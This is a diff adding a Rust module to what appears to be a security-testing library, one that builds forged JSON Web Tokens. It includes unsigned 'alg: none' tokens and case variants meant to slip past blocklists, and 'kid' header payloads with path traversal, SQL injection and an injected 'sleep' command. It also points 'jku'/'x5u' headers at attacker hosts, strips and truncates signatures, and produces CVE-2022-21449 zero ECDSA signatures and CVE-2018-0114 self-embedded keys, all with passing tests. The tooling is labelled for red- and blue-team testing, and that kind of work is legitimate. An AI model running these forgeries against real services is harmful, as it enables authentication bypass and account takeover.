@@ -0,0 +1,729 @@
+use crate::crypto::{hmac_sha256, rsa_generate, rsa_sign_sha256, BigUint};
+use crate::json::{json_members, json_object, json_string};
+use crate::transformations::dedup_preserving_order;
+use crate::transformations::encoding::{base64url_decode, base64url_encode};
+
+/// Signing algorithm written into a forged token's `alg` header.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum JwtAlgorithm {
+    /// Unsigned token (`"alg":"none"`) with an empty signature segment.
+    None,
+    /// HMAC-SHA256 signed with [`JwtForgeOptions::key`].
+    Hs256,
+}
+
+impl JwtAlgorithm {
+    fn name(self) -> &'static str {
+        match self {
+            JwtAlgorithm::None => "none",
+            JwtAlgorithm::Hs256 => "HS256",
+        }
+    }
+}
+
+/// Options for [`forge_jwt_with_options`].
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct JwtForgeOptions {
+    /// Algorithm used to sign the token.
+    pub algorithm: JwtAlgorithm,
+    /// Attacker-controlled HMAC secret. Ignored for [`JwtAlgorithm::None`].
+    pub key: String,
+    /// Claim overrides as `(name, raw JSON value)`, e.g. `("role", "\"admin\"")`.
+    /// Existing claims are replaced in place; new ones are appended.
+    pub claims: Vec<(String, String)>,
+}
+
+impl Default for JwtForgeOptions {
+    fn default() -> Self {
+        JwtForgeOptions {
+            algorithm: JwtAlgorithm::None,
+            key: String::new(),
+            claims: Vec::new(),
+        }
+    }
+}
+
+/// Sets `name` to the raw JSON `value`, replacing it in place if present.
+fn set_member(members: &mut Vec<(String, String)>, name: &str, value: &str) {
+    let key = json_string(name);
+    match members.iter_mut().find(|(k, _)| *k == key) {
+        Some(member) => member.1 = value.to_string(),
+        None => members.push((key, value.to_string())),
+    }
+}
+
+/// Applies claim overrides to `claims`, leaving it byte-for-byte intact when
+/// there is nothing to override or it is not a JSON object.
+fn apply_claims(claims: &str, overrides: &[(String, String)]) -> String {
+    let claims = if claims.trim().is_empty() {
+        "{}"
+    } else {
+        claims
+    };
+    if overrides.is_empty() {
+        return claims.to_string();
+    }
+    let Some(mut members) = json_members(claims) else {
+        return claims.to_string();
+    };
+
+    for (name, value) in overrides {
+        set_member(&mut members, name, value);
+    }
+    json_object(&members)
+}
+
+/// Encodes the `header.payload` part that the signature covers.
+fn signing_input(header: &str, payload: &str) -> String {
+    format!(
+        "{}.{}",
+        base64url_encode(header.as_bytes()),
+        base64url_encode(payload.as_bytes())
+    )
+}
+
+/// Assembles `header.payload.signature` for the given `alg` header value.
+fn sign_token(alg: &str, algorithm: JwtAlgorithm, key: &str, payload: &str) -> String {
+    let header = format!("{{\"alg\":{},\"typ\":\"JWT\"}}", json_string(alg));
+    let signing_input = signing_input(&header, payload);
+    let signature = match algorithm {
+        JwtAlgorithm::None => String::new(),
+        JwtAlgorithm::Hs256 => {
+            base64url_encode(&hmac_sha256(key.as_bytes(), signing_input.as_bytes()))
+        }
+    };
+    format!("{}.{}", signing_input, signature)
+}
+
+/// Forges an unsigned (`alg: none`) JWT carrying `claims`.
+///
+/// `claims` is the JSON payload and is encoded as given; an empty string
+/// becomes `{}`. The result is a complete three-segment token with an empty
+/// signature, ready to send. See [`forge_jwt_with_options`] for HS256 signing
+/// and claim overrides.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Test whether a verifier accepts unsigned tokens
+/// - **Blue Team**: Regression-test JWT libraries for `alg: none` rejection
+///
+/// # Examples
+///
+/// ```
+/// use redstr::forge_jwt;
+///
+/// let token = forge_jwt(r#"{"sub":"admin"}"#);
+/// assert_eq!(token, "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.");
+/// ```
+pub fn forge_jwt(claims: &str) -> String {
+    forge_jwt_with_options(claims, &JwtForgeOptions::default())
+}
+
+/// Forges a JWT with an explicit algorithm, attacker key and claim overrides.
+///
+/// Overrides are raw JSON values spliced into the top level of `claims`.
+/// If `claims` is not a JSON object the payload is sent verbatim and the
+/// overrides are skipped, which keeps deliberately malformed payloads intact.
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{forge_jwt_with_options, JwtAlgorithm, JwtForgeOptions};
+///
+/// let options = JwtForgeOptions {
+///     algorithm: JwtAlgorithm::Hs256,
+///     key: "your-256-bit-secret".to_string(),
+///     claims: vec![("iat".to_string(), "1516239022".to_string())],
+/// };
+/// let token = forge_jwt_with_options(r#"{"sub":"1234567890","name":"John Doe"}"#, &options);
+/// assert!(token.ends_with(".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"));
+/// ```
+pub fn forge_jwt_with_options(claims: &str, options: &JwtForgeOptions) -> String {
+    let payload = apply_claims(claims, &options.claims);
+    sign_token(
+        options.algorithm.name(),
+        options.algorithm,
+        &options.key,
+        &payload,
+    )
+}
+
+/// Forges unsigned JWTs under every capitalization of `none`.
+///
+/// Verifiers that blocklist only `"none"` often still accept `"None"`,
+/// `"NONE"` or `"nOnE"`. All 16 spellings are returned, lowercase first.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Bypass case-sensitive `alg` blocklists
+/// - **Blue Team**: Confirm the verifier allow-lists algorithms instead
+///
+/// # Examples
+///
+/// ```
+/// use redstr::jwt_none_variants;
+///
+/// let tokens = jwt_none_variants(r#"{"sub":"admin"}"#);
+/// assert_eq!(tokens.len(), 16);
+/// assert!(tokens.iter().all(|t| t.ends_with('.')));
+/// ```
+pub fn jwt_none_variants(claims: &str) -> Vec<String> {
+    let payload = apply_claims(claims, &[]);
+    dedup_preserving_order((0u8..16).map(|mask| {
+        let alg: String = "none"
+            .chars()
+            .enumerate()
+            .map(|(i, c)| {
+                if mask & (1 << i) != 0 {
+                    c.to_ascii_uppercase()
+                } else {
+                    c
+                }
+            })
+            .collect();
+        sign_token(&alg, JwtAlgorithm::None, "", &payload)
+    }))
+}
+
+/// `kid` values that point key lookup at predictable or injectable sources.
+const KID_PAYLOADS: &[&str] = &[
+    "../../../../../../../dev/null",
+    "/dev/null",
+    "../../../../../../../proc/sys/kernel/randomize_va_space",
+    "x' UNION SELECT 'secret'-- -",
+    "key.pem|sleep 5",
+];
+
+/// Injects a header parameter into an existing JWT, preserving the rest.
+///
+/// Decodes the header segment, sets `param` to the string `value`
+/// (replacing any existing entry), and re-encodes it. The payload and
+/// signature segments are kept byte-for-byte, so the signature is left stale
+/// for the verifier to (hopefully) reject. Tokens whose header does not
+/// decode to a JSON object are returned unchanged.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Point `kid` at `/dev/null` or `jku`/`x5u` at an attacker host
+/// - **Blue Team**: Check that key lookup ignores untrusted header parameters
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{forge_jwt, jwt_header_inject};
+///
+/// let token = forge_jwt(r#"{"sub":"admin"}"#);
+/// let injected = jwt_header_inject(&token, "kid", "../../dev/null");
+/// assert!(injected.ends_with(".eyJzdWIiOiJhZG1pbiJ9."));
+/// assert_ne!(injected, token);
+/// ```
+pub fn jwt_header_inject(token: &str, param: &str, value: &str) -> String {
+    inject_header(token, param, value).unwrap_or_else(|| token.to_string())
+}
+
+/// [`jwt_header_inject`], but `None` when the header cannot be decoded.
+fn inject_header(token: &str, param: &str, value: &str) -> Option<String> {
+    let (header, rest) = token.split_once('.')?;
+    let json = String::from_utf8(base64url_decode(header)?).ok()?;
+    let mut members = json_members(&json)?;
+
+    set_member(&mut members, param, &json_string(value));
+    Some(format!(
+        "{}.{}",
+        base64url_encode(json_object(&members).as_bytes()),
+        rest
+    ))
+}
+
+/// Generates `kid`, `jku` and `x5u` header injections for a token.
+///
+/// Covers `kid` path traversal (to `/dev/null` and other predictable files),
+/// SQL and command injection through `kid`, and `jku`/`x5u` pointed at
+/// `attacker_url`. Each entry is built with [`jwt_header_inject`].
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{forge_jwt, jwt_header_injections};
+///
+/// let token = forge_jwt(r#"{"sub":"admin"}"#);
+/// let tokens = jwt_header_injections(&token, "https://attacker.example/jwks.json");
+/// assert!(tokens.len() >= 7);
+/// assert!(!tokens.contains(&token));
+/// ```
+pub fn jwt_header_injections(token: &str, attacker_url: &str) -> Vec<String> {
+    let injections = KID_PAYLOADS
+        .iter()
+        .map(|kid| ("kid", *kid))
+        .chain([("jku", attacker_url), ("x5u", attacker_url)]);
+
+    dedup_preserving_order(
+        injections
+            .map(|(param, value)| jwt_header_inject(token, param, value))
+            .filter(|injected| injected != token),
+    )
+}
+
+/// Returns the `header.payload` prefix that a JWS signature covers.
+fn signed_part(token: &str) -> Option<&str> {
+    let (header, rest) = token.split_once('.')?;
+    let payload = rest.split('.').next().unwrap_or(rest);
+    Some(&token[..header.len() + 1 + payload.len()])
+}
+
+/// Removes the signature, keeping the trailing dot of a three-segment token.
+///
+/// Tests verifiers that treat a missing signature as "nothing to check".
+/// Input without a payload segment is returned unchanged.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Signature-bypass probe that keeps the original `alg`
+/// - **Blue Team**: Verify that an empty signature is rejected for every algorithm
+///
+/// # Examples
+///
+/// ```
+/// use redstr::jwt_strip_signature;
+///
+/// assert_eq!(jwt_strip_signature("aGVhZA.Ym9keQ.c2ln"), "aGVhZA.Ym9keQ.");
+/// ```
+pub fn jwt_strip_signature(token: &str) -> String {
+    match signed_part(token) {
+        Some(signed) => format!("{}.", signed),
+        None => token.to_string(),
+    }
+}
+
+/// Truncates the signature segment to its first `n` characters.
+///
+/// Catches verifiers that compare only a prefix of the signature or stop at
+/// the shorter of two buffers. `n` at or beyond the signature length leaves
+/// the token unchanged, and `n == 0` matches [`jwt_strip_signature`].
+///
+/// # Examples
+///
+/// ```
+/// use redstr::jwt_truncate_signature;
+///
+/// assert_eq!(jwt_truncate_signature("aGVhZA.Ym9keQ.c2lnbmF0dXJl", 4), "aGVhZA.Ym9keQ.c2ln");
+/// ```
+pub fn jwt_truncate_signature(token: &str, n: usize) -> String {
+    let Some(signed) = signed_part(token) else {
+        return token.to_string();
+    };
+    let signature = token[signed.len()..].strip_prefix('.').unwrap_or("");
+    let truncated: String = signature.chars().take(n).collect();
+    format!("{}.{}", signed, truncated)
+}
+
+/// Raw `r || s` signature sizes per ECDSA JWS algorithm (RFC 7518 §3.4).
+const ECDSA_SIGNATURE_LENGTHS: &[(&str, usize)] = &[("ES256", 64), ("ES384", 96), ("ES512", 132)];
+
+/// DER `SEQUENCE { INTEGER 0, INTEGER 0 }`, the `MAYCAQACAQA` signature.
+const DER_ZERO_SIGNATURE: [u8; 8] = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];
+
+/// Order of the P-256 group; `r = s = n` is zero modulo the curve order.
+const P256_ORDER: [u8; 32] = [
+    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
+    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
+];
+
+/// Generates "psychic signature" ECDSA malformations (CVE-2022-21449).
+///
+/// Verifiers that skip the `0 < r, s < n` range check accept `r = s = 0` for
+/// any message. Each token keeps the payload, switches `alg` to the matching
+/// ECDSA algorithm and carries one of: an all-zero raw signature for ES256,
+/// ES384 and ES512, the DER-encoded zero signature (`MAYCAQACAQA`), or
+/// `r = s = n` for P-256. Tokens whose header does not decode yield nothing.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Forge ECDSA-signed tokens against vulnerable Java verifiers
+/// - **Blue Team**: Regression-test range checks in ECDSA verification
+///
+/// # Examples
+///
+/// ```
+/// use redstr::{forge_jwt, jwt_psychic_signatures};
+///
+/// let tokens = jwt_psychic_signatures(&forge_jwt(r#"{"sub":"admin"}"#));
+/// assert!(tokens.iter().any(|t| t.ends_with(".MAYCAQACAQA")));
+/// ```
+pub fn jwt_psychic_signatures(token: &str) -> Vec<String> {
+    let mut signatures: Vec<(&str, Vec<u8>)> = ECDSA_SIGNATURE_LENGTHS
+        .iter()
+        .map(|&(alg, len)| (alg, vec![0u8; len]))
+        .collect();
+    signatures.push(("ES256", DER_ZERO_SIGNATURE.to_vec()));
+    signatures.push(("ES256", [P256_ORDER, P256_ORDER].concat()));
+
+    let mut tokens = Vec::with_capacity(signatures.len());
+    for (alg, signature) in signatures {
+        let Some(retagged) = inject_header(token, "alg", alg) else {
+            return Vec::new();
+        };
+        let signed = signed_part(&retagged).unwrap_or(&retagged);
+        tokens.push(format!("{}.{}", signed, base64url_encode(&signature)));
+    }
+
+    tokens
+}
+
+/// Key size for [`jwt_embed_jwk`]; the minimum most JOSE libraries accept.
+const EMBEDDED_JWK_BITS: usize = 2048;
+
+/// An RS256 token carrying its own public key, with the matching private key.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct EmbeddedJwk {
+    /// Signed token whose header embeds the public key as `jwk`.
+    pub token: String,
+    /// Matching private key as an RSA JWK (RFC 7517), for re-signing.
+    pub private_jwk: String,
+}
+
+/// Renders a JWK member whose value is a base64url big-endian integer.
+fn jwk_member(name: &str, value: &BigUint) -> String {
+    format!(
+        "{}:{}",
+        json_string(name),
+        json_string(&base64url_encode(&value.to_bytes_be()))
+    )
+}
+
+/// Forges an RS256 token signed by a fresh key embedded in its own header.
+///
+/// Generates a 2048-bit RSA key pair, places the public half in the `jwk`
+/// header parameter and signs `claims` with the private half. A verifier
+/// that trusts the embedded key (CVE-2018-0114) accepts the token. The key
+/// comes from the library's non-cryptographic RNG and is only fit for tests.
+///
+/// # Use Cases
+///
+/// - **Red Team**: Self-signed token attack without a separate key tool
+/// - **Blue Team**: Confirm verification keys come from configuration, not headers
+///
+/// # Examples
+///
+/// ```
+/// use redstr::jwt_embed_jwk;
+///
+/// let forged = jwt_embed_jwk(r#"{"sub":"admin"}"#);
+/// assert_eq!(forged.token.split('.').count(), 3);
+/// assert!(forged.private_jwk.contains(r#""kty":"RSA""#));
+/// ```
+pub fn jwt_embed_jwk(claims: &str) -> EmbeddedJwk {
+    let key = rsa_generate(EMBEDDED_JWK_BITS);
+    let payload = apply_claims(claims, &[]);
+
+    let public_jwk = format!(
+        "{{\"kty\":\"RSA\",{},{}}}",
+        jwk_member("e", &key.e),
+        jwk_member("n", &key.n)
+    );
+    let header = format!(
+        "{{\"alg\":\"RS256\",\"typ\":\"JWT\",\"jwk\":{}}}",
+        public_jwk
+    );
+    let signing_input = signing_input(&header, &payload);
+    let signature = rsa_sign_sha256(&key, signing_input.as_bytes());
+
+    let private_members: Vec<String> = [
+        ("n", &key.n),
+        ("e", &key.e),
+        ("d", &key.d),
+        ("p", &key.p),
+        ("q", &key.q),
+        ("dp", &key.dp),
+        ("dq", &key.dq),
+        ("qi", &key.qi),
+    ]
+    .iter()
+    .map(|(name, value)| jwk_member(name, value))
+    .collect();
+
+    EmbeddedJwk {
+        token: format!("{}.{}", signing_input, base64url_encode(&signature)),
+        private_jwk: format!("{{\"kty\":\"RSA\",{}}}", private_members.join(",")),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn segment(token: &str, index: usize) -> &str {
+        token.split('.').nth(index).unwrap()
+    }
+
+    fn encoded(json: &str) -> String {
+        base64url_encode(json.as_bytes())
+    }
+
+    #[test]
+    fn test_forge_jwt_none_has_empty_signature() {
+        let token = forge_jwt(r#"{"sub":"admin"}"#);
+        assert_eq!(token.matches('.').count(), 2);
+        assert!(token.ends_with('.'));
+        assert_eq!(segment(&token, 0), encoded(r#"{"alg":"none","typ":"JWT"}"#));
+        assert_eq!(segment(&token, 1), encoded(r#"{"sub":"admin"}"#));
+    }
+
+    #[test]
+    fn test_forge_jwt_empty_claims() {
+        let token = forge_jwt("");
+        assert_eq!(segment(&token, 1), encoded("{}"));
+    }
+
+    #[test]
+    fn test_forge_jwt_hs256_matches_reference_token() {
+        let options = JwtForgeOptions {
+            algorithm: JwtAlgorithm::Hs256,
+            key: "your-256-bit-secret".to_string(),
+            claims: Vec::new(),
+        };
+        let token = forge_jwt_with_options(
+            r#"{"sub":"1234567890","name":"John Doe","iat":1516239022}"#,
+            &options,
+        );
+        assert_eq!(
+            token,
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.\
+             eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.\
+             SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
+        );
+    }
+
+    #[test]
+    fn test_forge_jwt_claim_overrides_replace_and_append() {
+        let options = JwtForgeOptions {
+            claims: vec![
+                ("role".to_string(), "\"admin\"".to_string()),
+                ("exp".to_string(), "9999999999".to_string()),
+            ],
+            ..Default::default()
+        };
+        let token = forge_jwt_with_options(r#"{"sub":"bob", "role": "user"}"#, &options);
+        assert_eq!(
+            segment(&token, 1),
+            encoded(r#"{"sub":"bob","role":"admin","exp":9999999999}"#)
+        );
+    }
+
+    #[test]
+    fn test_forge_jwt_overrides_keep_nested_values() {
+        let options = JwtForgeOptions {
+            claims: vec![("admin".to_string(), "true".to_string())],
+            ..Default::default()
+        };
+        let token = forge_jwt_with_options(r#"{"ctx":{"a":[1,2],"b":"x,y}"}}"#, &options);
+        assert_eq!(
+            segment(&token, 1),
+            encoded(r#"{"ctx":{"a":[1,2],"b":"x,y}"},"admin":true}"#)
+        );
+    }
+
+    #[test]
+    fn test_forge_jwt_non_object_claims_sent_verbatim() {
+        let options = JwtForgeOptions {
+            claims: vec![("admin".to_string(), "true".to_string())],
+            ..Default::default()
+        };
+        let token = forge_jwt_with_options("[1,2]", &options);
+        assert_eq!(segment(&token, 1), encoded("[1,2]"));
+    }
+
+    #[test]
+    fn test_jwt_none_variants_cover_all_spellings() {
+        let tokens = jwt_none_variants(r#"{"sub":"admin"}"#);
+        assert_eq!(tokens.len(), 16);
+        assert_eq!(tokens[0], forge_jwt(r#"{"sub":"admin"}"#));
+
+        let headers: std::collections::HashSet<&str> =
+            tokens.iter().map(|t| segment(t, 0)).collect();
+        for alg in ["None", "NONE", "nOnE"] {
+            let header = format!(r#"{{"alg":"{}","typ":"JWT"}}"#, alg);
+            assert!(headers.contains(encoded(&header).as_str()));
+        }
+    }
+
+    fn header_json(token: &str) -> String {
+        String::from_utf8(base64url_decode(segment(token, 0)).unwrap()).unwrap()
+    }
+
+    #[test]
+    fn test_jwt_header_inject_adds_param() {
+        let token = forge_jwt(r#"{"sub":"admin"}"#);
+        let injected = jwt_header_inject(&token, "kid", "../../dev/null");
+        assert_eq!(
+            header_json(&injected),
+            r#"{"alg":"none","typ":"JWT","kid":"../../dev/null"}"#
+        );
+        assert_eq!(segment(&injected, 1), segment(&token, 1));
+        assert_eq!(segment(&injected, 2), "");
+    }
+
+    #[test]
+    fn test_jwt_header_inject_replaces_existing_param() {
+        let token = forge_jwt("{}");
+        let once = jwt_header_inject(&token, "alg", "HS256");
+        assert_eq!(header_json(&once), r#"{"alg":"HS256","typ":"JWT"}"#);
+    }
+
+    #[test]
+    fn test_jwt_header_inject_preserves_signature() {
+        let token = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.e30.c2ln";
+        let injected = jwt_header_inject(token, "jku", "https://evil.example/k");
+        assert!(injected.ends_with(".e30.c2ln"));
+        assert!(header_json(&injected).contains(r#""jku":"https://evil.example/k""#));
+    }
+
+    #[test]
+    fn test_jwt_header_inject_escapes_value() {
+        let token = forge_jwt("{}");
+        let injected = jwt_header_inject(&token, "kid", "x\"y");
+        assert!(header_json(&injected).contains(r#""kid":"x\"y""#));
+    }
+
+    #[test]
+    fn test_jwt_header_inject_malformed_token_unchanged() {
+        assert_eq!(jwt_header_inject("not-a-jwt", "kid", "x"), "not-a-jwt");
+        assert_eq!(jwt_header_inject("!!!.e30.", "kid", "x"), "!!!.e30.");
+        assert_eq!(jwt_header_inject("WzFd.e30.", "kid", "x"), "WzFd.e30.");
+    }
+
+    #[test]
+    fn test_jwt_header_injections_cover_params() {
+        let token = forge_jwt("{}");
+        let tokens = jwt_header_injections(&token, "https://attacker.example/jwks.json");
+        assert_eq!(tokens.len(), KID_PAYLOADS.len() + 2);
+        let headers: Vec<String> = tokens.iter().map(|t| header_json(t)).collect();
+        assert!(headers.iter().any(|h| h.contains(r#""kid":"/dev/null""#)));
+        assert!(headers
+            .iter()
+            .any(|h| h.contains(r#""jku":"https://attacker.example/jwks.json""#)));
+        assert!(headers
+            .iter()
+            .any(|h| h.contains(r#""x5u":"https://attacker.example/jwks.json""#)));
+    }
+
+    #[test]
+    fn test_jwt_header_injections_malformed_token_empty() {
+        assert!(jwt_header_injections("garbage", "https://a.example").is_empty());
+    }
+
+    const SIGNED: &str = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.e30";
+
+    #[test]
+    fn test_jwt_strip_signature() {
+        let token = format!("{}.c2lnbmF0dXJl", SIGNED);
+        assert_eq!(jwt_strip_signature(&token), format!("{}.", SIGNED));
+        assert_eq!(
+            jwt_strip_signature(&format!("{}.", SIGNED)),
+            format!("{}.", SIGNED)
+        );
+    }
+
+    #[test]
+    fn test_jwt_strip_signature_two_segments_and_garbage() {
+        assert_eq!(jwt_strip_signature(SIGNED), format!("{}.", SIGNED));
+        assert_eq!(jwt_strip_signature("garbage"), "garbage");
+    }
+
+    #[test]
+    fn test_jwt_truncate_signature() {
+        let token = format!("{}.c2lnbmF0dXJl", SIGNED);
+        assert_eq!(
+            jwt_truncate_signature(&token, 4),
+            format!("{}.c2ln", SIGNED)
+        );
+        assert_eq!(
+            jwt_truncate_signature(&token, 0),
+            jwt_strip_signature(&token)
+        );
+        assert_eq!(jwt_truncate_signature(&token, 100), token);
+        assert_eq!(jwt_truncate_signature("garbage", 2), "garbage");
+    }
+
+    #[test]
+    fn test_jwt_psychic_signatures_zero_raw_sizes() {
+        let tokens = jwt_psychic_signatures(&format!("{}.c2ln", SIGNED));
+        assert_eq!(tokens.len(), 5);
+        for (token, (alg, len)) in tokens.iter().zip(ECDSA_SIGNATURE_LENGTHS) {
+            assert!(header_json(token).contains(&format!(r#""alg":"{}""#, alg)));
+            assert_eq!(segment(token, 1), "e30");
+            let signature = base64url_decode(segment(token, 2)).unwrap();
+            assert_eq!(signature, vec![0u8; *len]);
+        }
+    }
+
+    #[test]
+    fn test_jwt_psychic_signatures_der_and_order() {
+        let tokens = jwt_psychic_signatures(&format!("{}.c2ln", SIGNED));
+        assert!(tokens[3].ends_with(".MAYCAQACAQA"));
+        let signature = base64url_decode(segment(&tokens[4], 2)).unwrap();
+        assert_eq!(signature, [P256_ORDER, P256_ORDER].concat());
+    }
+
+    #[test]
+    fn test_jwt_psychic_signatures_malformed_token_empty() {
+        assert!(jwt_psychic_signatures("garbage").is_empty());
+        assert!(jwt_psychic_signatures("!!!.e30.c2ln").is_empty());
+    }
+
+    /// Extracts a base64url JWK integer member from a JSON object.
+    fn jwk_int(json: &str, name: &str) -> BigUint {
+        let members = json_members(json).unwrap();
+        let value = &members
+            .iter()
+            .find(|(k, _)| *k == json_string(name))
+            .unwrap()
+            .1;
+        BigUint::from_bytes_be(&base64url_decode(value.trim_matches('"')).unwrap())
+    }
+
+    #[test]
+    fn test_jwt_embed_jwk_signature_verifies_with_embedded_key() {
+        use crate::crypto::pkcs1_sha256_encode;
+
+        let forged = jwt_embed_jwk(r#"{"sub":"admin"}"#);
+        let header = header_json(&forged.token);
+        assert!(
+            header.starts_with(r#"{"alg":"RS256","typ":"JWT","jwk":{"kty":"RSA","e":"AQAB","n":""#)
+        );
+        assert_eq!(segment(&forged.token, 1), encoded(r#"{"sub":"admin"}"#));
+
+        let jwk = &json_members(&header).unwrap()[2].1;
+        let (n, e) = (jwk_int(jwk, "n"), jwk_int(jwk, "e"));
+        let (signed, signature) = forged.token.rsplit_once('.').unwrap();
+        let signature = base64url_decode(signature).unwrap();
+        assert_eq!(signature.len(), 256);
+        let expected = pkcs1_sha256_encode(signed.as_bytes(), 256);
+        assert_eq!(
+            BigUint::from_bytes_be(&signature).modpow(&e, &n),
+            BigUint::from_bytes_be(&expected)
+        );
+    }
+
+    #[test]
+    fn test_jwt_embed_jwk_private_key_matches() {
+        let forged = jwt_embed_jwk("{}");
+        let jwk = &forged.private_jwk;
+        for name in ["n", "e", "d", "p", "q", "dp", "dq", "qi"] {
+            assert!(
+                jwk.contains(&format!("\"{}\":\"", name)),
+                "missing {}",
+                name
+            );
+        }
+        let header = header_json(&forged.token);
+        let public = &json_members(&header).unwrap()[2].1;
+        assert_eq!(jwk_int(jwk, "n"), jwk_int(public, "n"));
+        assert_eq!(jwk_int(jwk, "p").mul(&jwk_int(jwk, "q")), jwk_int(jwk, "n"));
+
+        // d really is the private exponent: (m^e)^d == m
+        let m = BigUint::from_u64(0x1234_5678);
+        let c = m.modpow(&jwk_int(jwk, "e"), &jwk_int(jwk, "n"));
+        assert_eq!(c.modpow(&jwk_int(jwk, "d"), &jwk_int(jwk, "n")), m);
+    }
+}